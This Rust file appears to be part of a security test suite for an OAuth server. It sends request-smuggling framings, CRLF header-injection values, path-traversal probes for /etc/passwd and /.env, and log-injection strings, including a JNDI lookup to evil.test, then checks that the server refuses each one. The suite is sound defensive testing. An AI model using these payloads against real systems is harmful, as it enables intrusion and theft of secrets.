//! HTTP itself: framing that two servers read in two ways, heads that are none, methods and paths of all kinds (RFC 9110, RFC 9112).
//!
//! Every template of the group is in this one file: a table of them above, a function for each below.

use super::{Expander, MARKUP, STATE, always, ask, bad_encodings, once, shop};
use crate::attack::Attack;
use crate::check::expect::Expect;
use crate::target::{SHOP_URI, Target};
use crate::wire::{Body, Reply, Request};

pub const ALL: &[Expander] = &[
    always("HT-01", "lengths and codings that contradict", framing),
    always("HT-02", "heads that are malformed", heads),
    always("HT-03", "chunks that lie", chunks),
    once("HT-05", "HTTP/2 frames and headers that are malformed", super::http2::all),
    always("HT-09", "bodies beyond the limit", long_bodies),
    always("HT-11", "methods", methods),
    always("HT-12", "spellings of a path", paths),
    always("HT-13", "line breaks on their way into headers", header_injection),
    always("HT-18", "line breaks and escapes on their way into the log", log_injection),
    once("HT-19", "keys that collide, patterns that backtrack", slow_inputs),
    always("HT-20", "no compression of pages with secrets", no_compression),
];

/// Endpoints that take a body.
const POSTS: [&str; 6] = ["/token", "/introspect", "/revoke", "/login", "/consent", "/logout"];
/// What must never be answered: a request inside the body of another.
const INNER: &str = "0\r\n\r\nGET /logout HTTP/1.1\r\nHost: smuggled\r\n\r\n";

fn closed() -> Expect {
    Expect::Refused(vec![400, 501, 431, 413, 0])
}

fn framing(attack: &mut Attack<'_>) {
    let host = attack.target.host();
    let inner = INNER.replace("smuggled", &host);
    for path in POSTS {
        for headers in [
            "Content-Length: 6\r\nTransfer-Encoding: chunked\r\n",
            "Transfer-Encoding: chunked\r\nContent-Length: 6\r\n",
            "Transfer-Encoding: xchunked\r\n",
            "Transfer-Encoding: chunked, identity\r\n",
            "Transfer-Encoding: identity, chunked\r\n",
            "Transfer-Encoding: gzip, chunked\r\n",
            "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
            "Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n",
            "Transfer-Encoding: x\r\nTransfer-Encoding: chunked\r\n",
            "Transfer-Encoding : chunked\r\n",
            "Transfer-Encoding:\r\n",
            "Transfer-Encoding: \"chunked\"\r\n",
            "Transfer-Encoding: chunked;q=1\r\n",
            "Transfer-Encoding:\x0bchunked\r\n",
            "X: 1\r\n Transfer-Encoding: chunked\r\n",
            "Transfer-Encoding:\r\n chunked\r\n",
            "Transfer-Encoding\r\n : chunked\r\n",
            "\x00Transfer-Encoding: chunked\r\n",
            "Content-Length: 5\r\nContent-Length: 6\r\n",
            "Content-Length: 5, 5\r\n",
            "Content-Length: 5,\r\n",
            "Content-Length: +5\r\n",
            "Content-Length: -5\r\n",
            "Content-Length: 0x5\r\n",
            "Content-Length: 5 5\r\n",
            "Content-Length: 5a\r\n",
            "Content-Length: 99999999999999999999999999\r\n",
            "Content-Length:\r\n",
            "Content-Length: 1e1\r\n",
            "Content-Length : 5\r\n",
            "Content-Length: 5\r\n 6\r\n",
        ] {
            let head = format!("POST {path} HTTP/1.1\r\nHost: {host}\r\n{headers}\r\n");
            attack.send_raw(&[format!("{head}{inner}").as_bytes()], &closed(), 1, true);
        }
        both_framings(attack, path);
        let old = format!("POST {path} HTTP/1.0\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n{inner}");
        attack.send_raw(&[old.as_bytes()], &closed(), 1, true);
        let cased = ["tRANSFER-eNCODING: CHUNKED\r\ncONTENT-lENGTH: 6\r\n", "content-length: 6\r\ntransfer-encoding: cHuNkEd\r\n"];
        for headers in cased {
            let head = format!("POST {path} HTTP/1.1\r\nHost: {host}\r\n{headers}\r\n{inner}");
            let (start, end) = head.split_at(attack.random.below(head.len() - inner.len()));
            attack.send_raw(&[start.as_bytes(), end.as_bytes()], &closed(), 1, true);
        }
        let pipelined = format!(
            "GET /nothing HTTP/1.1\r\nHost: {host}\r\n\r\nPOST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n{inner}"
        );
        attack.send_raw(&[pipelined.as_bytes()], &Expect::Refused(vec![400, 404]), 2, true);
    }
}

/// A request that is right but for being framed twice, which one server reads in one way and the next in another.
fn both_framings(attack: &mut Attack<'_>, path: &str) {
    let (host, basic) = (attack.target.host(), attack.target.basic("robot"));
    let form = "grant_type=client_credentials&token=kha_x";
    let chunked = format!("{:x}\r\n{form}\r\n0\r\n\r\n", form.len());
    for headers in [
        format!("Content-Length: {}\r\nTransfer-Encoding: chunked\r\n", chunked.len()),
        format!("Transfer-Encoding: chunked\r\nContent-Length: {}\r\n", chunked.len()),
        "content-length: 0\r\nX: 1\r\ntransfer-encoding: CHUNKED\r\n".to_owned(),
        "Transfer-Encoding: chunked\r\nContent-Length: 4\r\nContent-Length: 4\r\n".to_owned(),
        "Transfer-Encoding: identity, chunked\r\n".to_owned(),
        "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n".to_owned(),
    ] {
        let head = format!(
            "POST {path} HTTP/1.1\r\nHost: {host}\r\nAuthorization: {basic}\r\nContent-Type: application/x-www-form-urlencoded\r\n"
        );
        attack.send_raw(&[format!("{head}{headers}\r\n{chunked}").as_bytes()], &closed(), 1, true);
    }
}

fn heads(attack: &mut Attack<'_>) {
    let host = attack.target.host();
    for path in ["/authorize", "/logout", "/.well-known/oauth-authorization-server", "/token"] {
        let start = format!("GET {path} HTTP/1.1\r\nHost: {host}\r\n");
        for rest in [
            "X-A: 1\r\n folded\r\n\r\n",
            "X-A: 1\r\n\tfolded\r\n\r\n",
            "X-A : 1\r\n\r\n",
            "X-A: 1\0\r\n\r\n",
            "X-A: 1\rX-B: 2\r\n\r\n",
            "X(A): 1\r\n\r\n",
            ": 1\r\n\r\n",
            "X A: 1\r\n\r\n",
            "X-A: 1\nX-B: 2\r\n\r\n",
            "X-A: 1\n\r\n",
            "X-A: 1\r\n\n",
            "\n",
            "X-A\r\n\r\n",
            "X-A: \x7f\r\n\r\n",
            "X-A: \x1b[31m\r\n\r\n",
            "X-\u{e9}: 1\r\n\r\n",
            "X\0A: 1\r\n\r\n",
            " X-A: 1\r\n\r\n",
            "\rX-A: 1\r\n\r\n",
            "X-A: 1\r\r\n\r\n",
            "\"X-A\": 1\r\n\r\n",
            "X-A@: 1\r\n\r\n",
            "X-A: 1\x01\r\n\r\n",
            "Host: evil.test\r\n\r\n",
        ] {
            attack.send_raw(&[format!("{start}{rest}").as_bytes()], &closed(), 1, true);
        }
        for head in [
            format!("GET  {path} HTTP/1.1\r\nHost: {host}\r\n\r\n"),
            format!("GET {path}  HTTP/1.1\r\nHost: {host}\r\n\r\n"),
            format!("GET\t{path} HTTP/1.1\r\nHost: {host}\r\n\r\n"),
            format!("GET {path}\0 HTTP/1.1\r\nHost: {host}\r\n\r\n"),
            format!("GET {path} HTTP/1.1\nHost: {host}\n\n"),
            format!("GET {path} HTTP/1.1\r\nHost: {host}\n\r\n"),
            format!("GET {path} HTTP/3.1\r\nHost: {host}\r\n\r\n"),
            format!("GET {path} HTTP/1.2\r\nHost: {host}\r\n\r\n"),
            format!("GET {path} HTTP/01.1\r\nHost: {host}\r\n\r\n"),
            format!("GET {path} http/1.1\r\nHost: {host}\r\n\r\n"),
            format!("GET {path} HTTP/1.1 \r\nHost: {host}\r\n\r\n"),
            format!("GET {path}\r\nHost: {host}\r\n\r\n"),
            format!("G@T {path} HTTP/1.1\r\nHost: {host}\r\n\r\n"),
            format!("{path} HTTP/1.1\r\nHost: {host}\r\n\r\n"),
            format!("GET evil{path} HTTP/1.1\r\nHost: {host}\r\n\r\n"),
            format!("GET http://evil.test{path} HTTP/1.1\r\nHost: {host}\r\n\r\n"),
            format!("GET ftp://{host}{path} HTTP/1.1\r\nHost: {host}\r\n\r\n"),
            format!("GET {path} HTTP/1.1\r\n\r\n"),
            format!("GET {path} HTTP/1.1\r\nHost:\r\n\r\n"),
            format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nHost: {host}\r\n\r\n"),
            format!("GET {path} HTTP/1.1\r\nHost: {host} evil.test\r\n\r\n"),
            format!("CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n"),
            format!("OPTIONS * HTTP/1.1\r\nHost: {host}\r\n\r\n"),
        ] {
            attack.send_raw(&[head.as_bytes()], &Expect::Refused(vec![400, 405, 0]), 1, false);
        }
    }
    let word = attack.random.word(300);
    attack.send_raw(&[word.as_bytes(), b"\r\n\r\n"], &closed(), 1, true);
    let noise: Vec<u8> = (0..200).map(|_| attack.random.number().to_le_bytes()[0] | 0x80).chain(*b"\r\n\r\n").collect();
    attack.send_raw(&[&noise], &closed(), 1, true);
}

fn chunks(attack: &mut Attack<'_>) {
    let host = attack.target.host();
    for path in POSTS {
        let head = format!(
            "POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n"
        );
        for body in [
            "FFFFFFFFFFFFFFFFF\r\na\r\n",
            "-1\r\na\r\n",
            "+1\r\na\r\n0\r\n\r\n",
            "0x1\r\na\r\n0\r\n\r\n",
            "g\r\na\r\n",
            "\r\na\r\n",
            "1\na\n0\n\n",
            " 1\r\na\r\n0\r\n\r\n",
            "1\r\nab\r\n0\r\n\r\n",
            "1;\0\r\na\r\n0\r\n\r\n",
            "1\r\na0\r\n\r\n",
            "1_0\r\na\r\n",
            "١\r\na\r\n",
        ] {
            attack.send_raw(&[format!("{head}{body}").as_bytes()], &Expect::Refused(vec![400, 413, 401, 403, 0]), 1, false);
        }
        // What is announced is more than anybody takes, whether it comes or not.
        for size in ["FFFFFFFFFFFFFFFF", "80000000", "7FFFFFFFFFFFFFFF", "100000"] {
            let long = format!("{head}{size}\r\n{}", "a".repeat(70_000));
            attack.send_raw(&[long.as_bytes()], &Expect::Refused(vec![400, 413, 0]), 1, true);
        }
        let extension = format!("{head}1;{}\r\na\r\n0\r\n\r\n", "x".repeat(1 << 20));
        attack.send_raw(&[extension.as_bytes()], &Expect::Refused(vec![400, 413, 431, 0]), 1, true);
    }
    // What comes after the body authenticates nobody.
    let basic = attack.target.basic("robot");
    let body = "1d\r\ngrant_type=client_credentials\r\n0\r\n";
    let trailer = format!(
        "POST /token HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\nTrailer: Authorization\r\n\r\n{body}Authorization: {basic}\r\n\r\n"
    );
    attack.send_raw(&[trailer.as_bytes()], &Expect::Refused(vec![400, 401]), 1, false);
}

fn long_bodies(attack: &mut Attack<'_>) {
    let host = attack.target.host();
    for path in POSTS {
        let form = |size: usize| Body::Bytes("application/x-www-form-urlencoded".to_owned(), vec![b'a'; size]);
        for size in [(64 << 10) + 1, 256 << 10, 1 << 20] {
            attack.send(&Request { body: form(size), ..Request::new("POST", path) }, &Expect::Refused(vec![413, 0]));
        }
        let announced = format!("POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 10000000\r\nExpect: 100-continue\r\n\r\n");
        attack.send_raw(&[announced.as_bytes()], &Expect::Refused(vec![413]), 1, true);
        let most = form(64 << 10);
        attack.send(&Request { body: most, ..Request::new("POST", path) }, &Expect::Refused(vec![400, 401, 403]));
    }
}

fn methods(attack: &mut Attack<'_>) {
    let word = attack.random.word(9);
    let long = "M".repeat(10_000);
    for path in [
        "/token",
        "/introspect",
        "/revoke",
        "/authorize",
        "/login",
        "/consent",
        "/logout",
        "/authorize/resume",
        "/.well-known/oauth-authorization-server",
        "/static/keyhook.css",
    ] {
        for method in [
            "TRACE", "TRACK", "DEBUG", "PUT", "DELETE", "PATCH", "OPTIONS", "PROPFIND", "get", "post", "Get", "QUERY", "PRI", "GETX", &word,
        ] {
            attack.send(&Request::new(method, path), &Expect::Refused(vec![400, 405, 501]));
        }
        attack.send(&Request::new(&long, path), &Expect::Refused(vec![400, 405, 431, 0]));
        for name in ["x-http-method-override", "x-method-override", "x-http-method", "_method"] {
            let reply = attack.send(&Request::new("PUT", path).header(name, "POST"), &Expect::Refused(vec![405]));
            let Reply::Answer(answer) = reply else { continue };
            attack.hold("an overridden method is taken", answer.status == 405);
        }
    }
    for path in ["/token", "/introspect", "/revoke"] {
        let body = Body::Bytes("application/x-www-form-urlencoded".to_owned(), b"grant_type=client_credentials".to_vec());
        let basic = attack.target.basic("robot");
        attack.send(&Request { body, ..Request::new("GET", path) }.header("authorization", basic), &Expect::Refused(vec![405]));
    }
}

fn paths(attack: &mut Attack<'_>) {
    for path in ["/token", "/authorize", "/login", "/consent", "/introspect", "/revoke", "/logout", "/authorize/resume"] {
        let bare = path.trim_start_matches('/');
        let letter = format!("%{:02x}", bare.as_bytes()[1]);
        let twin = format!("/{}{letter}{}", &bare[..1], &bare[2..]);
        for other in [
            format!("/{path}"),
            format!("{path}/"),
            path.to_uppercase(),
            twin,
            format!("{path};x"),
            format!("/.{path}"),
            format!("/x/..{path}"),
            format!("{path}/."),
            format!("{path}/.."),
            format!("{path}%00"),
            format!("{path}%20"),
            format!("{path}%2f"),
            format!("{path}.json"),
            format!("{path}\\"),
            format!("/%2e{path}"),
            format!("{path}//"),
            format!("{path}*"),
            format!("{path}:80"),
            format!("{path}~"),
            format!("/{bare}%0a"),
            format!("{path}%3F"),
            format!("{path},"),
        ] {
            attack.send(&Request::post(&other, &[("grant_type", "client_credentials")]), &Expect::Refused(vec![404, 400]));
            attack.send(&Request::new("GET", &other), &Expect::Refused(vec![404, 400]));
        }
        let hash = Request::post(&format!("{path}#x"), &[("a", "b")]);
        attack.send(&hash, &Expect::Refused(vec![400, 401, 403, 404, 405]));
    }
    for path in [
        "/..",
        "/../../etc/passwd",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/static/../keyhook.toml",
        "/static/%2e%2e/keyhook.toml",
        "/static/keyhook.css/..",
        "/admin",
        "/metrics",
        "/health/live",
        "/health/ready",
        "/debug",
        "/x/",
        "/.git/config",
        "/.env",
        "/server-status",
    ] {
        attack.send(&Request::new("GET", path), &Expect::Refused(vec![404, 400]));
    }
    for path in ["/", "/playground", "/playground/start", "/playground/callback"] {
        let known = attack.target.name == "dev";
        attack.send(&Request::new("GET", path), &if known { Expect::Harmless(vec![200, 303]) } else { Expect::Refused(vec![404]) });
    }
}

fn header_injection(attack: &mut Attack<'_>) {
    let breaks =
        ["%0d%0aSet-Cookie:x=1", "%0aX-Evil:1", "%0d", "%e5%98%8a%e5%98%8dX-Evil:1", "%c4%8a", "%e2%80%a8", "%c2%85", "%00", "%5cr%5cn"];
    for value in breaks {
        for name in ["state", "redirect_uri", "scope", "client_id", "prompt", "nonce", "error", "login_hint", "ui_locales"] {
            let reply = attack.send(&shop().set_raw(name, value), &Expect::Harmless(vec![303, 400]));
            let Reply::Answer(answer) = reply else { continue };
            attack.hold("a header of the attacker's", answer.header("x-evil").is_none() && !answer.location().contains(['\r', '\n']));
        }
        for path in ["/token", "/introspect", "/revoke"] {
            let reply = attack
                .send(&Request::post(path, &[]).set_raw("client_id", value).set_raw("grant_type", value), &Expect::Refused(vec![400, 401]));
            let Reply::Answer(answer) = reply else { continue };
            attack.hold("a challenge of the attacker's", answer.header("x-evil").is_none());
        }
        attack.send(&Request::new("GET", &format!("/nothing{value}")), &Expect::Refused(vec![404]));
        attack.send(&Request::get("/playground/callback", &[]).set_raw("state", value), &Expect::Harmless(vec![303, 404, 400]));
    }
}

fn log_injection(attack: &mut Attack<'_>) {
    let evil = [
        "\n{\"level\":\"info\",\"target\":\"audit\",\"event\":\"token\",\"outcome\":\"ok\"}",
        "\r\nHTTP/1.1 200",
        "\u{1b}[2J\u{1b}[31m",
        "${jndi:ldap://evil.test/a}",
        "\u{202e}gpj",
        "\u{9b}31m",
        "\u{2028}x",
        "%s%n%x",
        "\u{feff}",
        "\"}\n",
    ];
    for value in evil {
        for name in ["client_id", "redirect_uri", "scope", "prompt", "response_type", "x"] {
            attack.send(&shop().set(name, value), &Expect::Harmless(vec![303, 400]));
        }
        attack.send(&Request::post("/token", &[("grant_type", value), ("client_id", value)]), &Expect::Json(vec!["invalid_client"]));
        let basic = keyhook_tests::http::basic(value, value);
        attack.send(
            &Request::post("/token", &[("grant_type", "client_credentials")]).header("authorization", basic),
            &Expect::Json(vec!["invalid_client"]),
        );
        let robot = attack.target.basic("robot");
        attack.send(
            &Request::post("/token", &[("grant_type", value)]).header("authorization", &robot),
            &Expect::Json(vec!["unsupported_grant_type"]),
        );
        attack.send(
            &Request::post("/token", &[("grant_type", "client_credentials"), ("scope", value)]).header("authorization", robot),
            &Expect::Json(vec!["invalid_scope"]),
        );
        let printable: String = value.chars().filter(|letter| !letter.is_control()).collect();
        attack.send(&Request::get("/authorize", &[("client_id", "x")]).header("user-agent", printable.as_bytes()), &Expect::Page);
    }
}

fn slow_inputs(attack: &mut Attack<'_>) {
    let robot = attack.target.basic("robot");
    for value in
        ["a ".repeat(12_000), "(".repeat(20_000), "a".repeat(30_000) + "!", "+".repeat(20_000), "%20".repeat(10_000), "é".repeat(10_000)]
    {
        for name in ["scope", "grant_type", "token"] {
            let form = Request::post("/token", &[("grant_type", "client_credentials")]).set(name, &value).header("authorization", &robot);
            attack.send_growing(
                &form,
                &Expect::Either(vec![Expect::Json(vec!["invalid_scope", "unsupported_grant_type"]), Expect::Tokens(None)]),
                &[("access_token", 1)],
            );
        }
    }
    let keys: String = (0..250).map(|number| format!("&k{number:05}{}=", attack.random.word(20))).collect();
    let body = Body::Bytes("application/x-www-form-urlencoded".to_owned(), keys.as_bytes()[1..].to_vec());
    attack.send(&Request { body, ..Request::new("POST", "/token") }, &Expect::Json(vec!["invalid_client"]));
    for header in ["accept", "accept-language", "cookie", "authorization", "x-forwarded-for"] {
        attack.send(&ask("nobody", SHOP_URI).header(header, ",;q=".repeat(2000)), &Expect::Page);
        attack.send(&ask("nobody", SHOP_URI).header(header, "a=;".repeat(3000)), &Expect::Page);
    }
}

fn no_compression(attack: &mut Attack<'_>) {
    for encoding in ["gzip", "br", "deflate", "zstd", "gzip, br;q=1, *"] {
        for request in [shop(), Request::get("/logout", &[]), ask("nobody", SHOP_URI), Request::get("/static/keyhook.css", &[])] {
            let Reply::Answer(answer) = attack.send(&request.header("accept-encoding", encoding), &Expect::Harmless(vec![200, 303, 400]))
            else {
                continue;
            };
            attack.hold("a page is compressed", answer.header("content-encoding").is_none());
        }
    }
    for bad in bad_encodings() {
        attack.send(&shop().set_raw("x", bad), &Expect::Page);
    }
    for markup in MARKUP {
        attack.send(&shop().set("state", markup).set("prompt", "none"), &Expect::back(&["login_required"], SHOP_URI, markup));
    }
    let cookies = Target::cookies(&attack.target.browser("alice"));
    attack.send(&shop().header("cookie", cookies), &Expect::Code { to: SHOP_URI.to_owned(), state: Some(STATE.to_owned()) });
}
